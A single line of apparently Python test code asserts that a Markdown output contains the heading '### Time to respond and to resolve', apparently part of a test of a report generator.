    assert "### Time to respond and to resolve" in md.splitlines()
